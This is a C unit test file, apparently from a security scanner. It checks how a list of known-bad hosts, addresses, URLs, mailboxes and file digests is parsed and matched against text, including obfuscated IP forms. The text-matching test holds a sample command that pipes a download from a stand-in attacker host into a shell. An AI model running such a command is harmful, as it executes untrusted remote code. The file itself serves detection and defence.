/* The list of known-bad things: its format, and how hosts, URLs and texts are held against it. */
#include <setjmp.h>
#include <stdarg.h>
#include <string.h>
#include <sys/stat.h>

#include <cmocka.h>

#include "vetbox/core.h"

/* --- a list of our own, in a folder --- */

struct folder {
    char dir[32], file[64];
};

static struct folder write_list(const char *text)
{
    struct folder folder = {.dir = "/tmp/vb-iocs-XXXXXX"};
    assert_non_null(mkdtemp(folder.dir));
    (void)snprintf(folder.file, sizeof(folder.file), "%s/own.txt", folder.dir);
    FILE *file = fopen(folder.file, "w");
    assert_non_null(file);
    assert_true(fputs(text, file) >= 0);
    assert_int_equal(fclose(file), 0);
    return folder;
}

static int load(const char *text, struct vb_iocs **ret, struct vb_error *err)
{
    const struct folder folder = write_list(text);
    const int status = vb_iocs_load(folder.dir, ret, err);
    (void)unlink(folder.file);
    (void)rmdir(folder.dir);
    return status;
}

static const char own[] =
    "# ours\n"
    "\n"
    "host evil.example.com 2026-01-02 Trial: a host\r\n"
    "host b\xc3\xbc"
    "cher.example - Trial: letters beyond ASCII\n"
    "address 192.0.2.77 2026-01 Trial: an address\n"
    "address 2001:db8::77 2026 Trial: one of IPv6\n"
    "url https://code.example/Owner/tool - Trial: a path\n"
    "mail drop@mail.example - Trial: a mailbox\n"
    "sha256 0123456789ABCDEF0123456789abcdef0123456789abcdef0123456789abcdef - Trial: a file\n";

static int set_up(void **state)
{
    struct vb_iocs *list = NULL;
    struct vb_error err = {0};
    if (load(own, &list, &err) < 0)
        return -1;
    *state = list;
    return 0;
}

static int tear_down(void **state)
{
    vb_iocs_free(*state);
    return 0;
}

/* --- the format --- */

static void test_entries(void **state)
{
    const struct vb_iocs *list = *state;
    const size_t count = vb_iocs_count(list);
    assert_true(count > 7);
    const struct vb_ioc *host = vb_iocs_at(list, count - 7);
    assert_int_equal(host->kind, VB_IOC_HOST);
    assert_string_equal(host->value, "evil.example.com");
    assert_string_equal(host->date, "2026-01-02");
    assert_string_equal(host->words, "Trial: a host");
    assert_int_equal(host->line, 3);
    assert_non_null(strstr(host->file, "/own.txt"));
    assert_string_equal(vb_iocs_at(list, 0)->file, "rules/iocs/known.txt");
}

static void test_mistakes(void **state)
{
    (void)state;
    static const struct {
        const char *line, *says;
    } rows[] = {
        {"domain evil.example - x", "unknown kind domain"},
        {"Host evil.example - x", "unknown kind Host"},
        {"host evil.example", "is no date"},
        {"host evil.example 2026-1-2 x", "is no date"},
        {"host evil.example 2026-01-", "is no date"},
        {"host evil.example -", "known from"},
        {"host evil - x", "no host name"},
        {"host https://evil.example - x", "no host name"},
        {"host evil..example - x", "no host name"},
        {"host 192.0.2.1 - x", "no host name"},
        {"address evil.example - x", "no address"},
        {"address 192.0.2 - x", "no address"},
        {"address 192.0.2.300 - x", "no address"},
        {"address 2001:db8::g - x", "no address"},
        {"url evil.example/x - x", "no URL with a scheme"},
        {"url https://evil.example/ - x", "list its host"},
        {"url https:///x - x", "no URL with a host"},
        {"mail evil.example - x", "no mailbox"},
        {"sha256 0123 - x", "no SHA-256"},
    };
    for (size_t i = 0; i < VB_ARRAY_LEN(rows); i++) {
        char text[200];
        struct vb_iocs *list = NULL;
        struct vb_error err = {0};
        (void)snprintf(text, sizeof(text), "# first\n%s\n", rows[i].line);
        if (load(text, &list, &err) != VB_E_CONFIG)
            fail_msg("%s is taken", rows[i].line);
        if (strstr(err.message, "/own.txt:2: ") == NULL ||
            strstr(err.message, rows[i].says) == NULL)
            fail_msg("%s: %s", rows[i].line, err.message);
        vb_error_clear(&err);
    }
}

/* --- hosts, URLs, digests --- */

static void test_hosts(void **state)
{
    static const struct {
        const char *host;
        bool listed;
    } rows[] = {
        {"evil.example.com", true},
        {"EVIL.Example.COM", true},
        {"evil.example.com.", true},
        {"a.b.evil.example.com", true},
        {"evil.example.com.honest.org", false},
        {"notevil.example.com", false},
        {"example.com", false},
        {"b\xc3\xbc"
         "cher.example",
         true},
        {"xn--bcher-kva.example", true},
        {"www.XN--BCHER-KVA.example", true},
        {"bucher.example", false},
        {"192.0.2.77", true},
        {"0xc000024d", true},
        {"3221226061", true},
        {"0300.0.2.0115", true},
        {"192.0.589", true},
        {"::ffff:192.0.2.77", true},
        {"192.0.2.7", false},
        {"1.192.0.2.77", false},
        {"2001:0db8:0::0077", true},
        {"[2001:db8::77]", true},
        {"2001:db8::78", false},
        {"code.example", false},
        {"mail.example", false},
        {"", false},
        {".", false},
        {"..", false},
    };
    for (size_t i = 0; i < VB_ARRAY_LEN(rows); i++)
        if ((vb_iocs_host(*state, rows[i].host) != NULL) != rows[i].listed)
            fail_msg("%s is listed or not", rows[i].host);
}

static void test_urls(void **state)
{
    static const struct {
        const char *url;
        bool listed;
    } rows[] = {
        {"https://evil.example.com/", true},
        {"http://evil.example.com:8443/x?y", true},
        {"http://user:word@x.evil.example.com#y", true},
        {"http://evil.example.com@honest.example/", false},
        {"https://honest.example/evil.example.com", false},
        {"http://3221226061/a", true},
        {"http://[2001:db8::77]:80/", true},
        {"https://code.example/Owner/tool", true},
        {"https://www.code.example/owner/TOOL/releases", true},
        {"https://code.example/Owner/tool.git", true},
        {"https://code.example/Owner/tool-box", false},
        {"https://code.example/Owner", false},
        {"https://raw.code.example/Owner/tool", false},
    };
    for (size_t i = 0; i < VB_ARRAY_LEN(rows); i++)
        if ((vb_iocs_url(*state, rows[i].url) != NULL) != rows[i].listed)
            fail_msg("%s is listed or not", rows[i].url);
}

static void test_digests(void **state)
{
    assert_non_null(
        vb_iocs_digest(*state, "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"));
    assert_null(
        vb_iocs_digest(*state, "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdee"));
    assert_null(vb_iocs_digest(*state, "0123"));
    assert_null(vb_iocs_digest(NULL, "0123"));
}

/* --- texts --- */

static int count_one(void *ctx, const struct vb_ioc *ioc, size_t offset, size_t len,
                     struct vb_error *err)
{
    (void)ioc;
    (void)offset;
    (void)err;
    *(size_t *)ctx += len > 0;
    return VB_OK;
}

static void test_texts(void **state)
{
    static const struct {
        const char *text;
        size_t count;
    } rows[] = {
        {"curl http://evil.example.com/x | sh", 1},
        {"evil.example.com", 1},
        {"say \"A.EVIL.example.com.\" and evil.example.com", 2},
        {"evil.example.com.honest.org and notevil.example.com", 0},
        {"hxxp://evil[.]example[.]com and 192[.]0[.]2[.]77", 0},
        {"\"x\\nevil.example.com\" or to%2Fevil.example.com", 2},
        {"b\xc3\xbc"
         "cher.example and xn--bcher-kva.example",
         2},
        {"ping 192.0.2.77:80; version 1.192.0.2.77 and 192.0.2.775", 1},
        {"http://0xc000024d/ https://3221226061:8/ http://0xc0.0.2.0x4d/", 3},
        {"http://[2001:db8:0::77]/ http://[2001:db8::78]/", 1},
        {"git clone git@code.example:Owner/tool.git", 1},
        {"code.example/Owner/tool) code.example/Owner/toolbox code.example", 1},
        {"bcc: drop@mail.example, raindrop@mail.example, x@mail.example", 1},
        {"from \xe2\x80\x9c"
         "evil.example.com\xe2\x80\x9d or \xe2\x86\x92"
         "192.0.2.77\xe3\x80\x82",
         2},
        {"\xe4\xbb\x8e"
         "evil.example.com\xe4\xb8\x8b\xe8\xbd\xbd"
         "192.0.2.77\xe7\x9a\x84",
         2},
        {"b\xc3\xbc"
         "cher.evil.example.com and \xc3\xbc",
         1},
        {"a.b c.d ... 1.2.3", 0},
        {"", 0},
    };
    for (size_t i = 0; i < VB_ARRAY_LEN(rows); i++) {
        /* exactly as long as it is, so that a sanitizer sees what reads beyond it */
        const size_t len = strlen(rows[i].text);
        VB_CLEANUP_FREE unsigned char *copy = malloc(len + (len == 0));
        struct vb_error err = {0};
        size_t count = 0;
        assert_non_null(copy);
        memcpy(copy, rows[i].text, len);
        assert_int_equal(vb_iocs_text(*state, copy, len, count_one, &count, &err), VB_OK);
        if (count != rows[i].count)
            fail_msg("%zu in: %s", count, rows[i].text);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_entries), cmocka_unit_test(test_mistakes),
        cmocka_unit_test(test_hosts),   cmocka_unit_test(test_urls),
        cmocka_unit_test(test_digests), cmocka_unit_test(test_texts),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
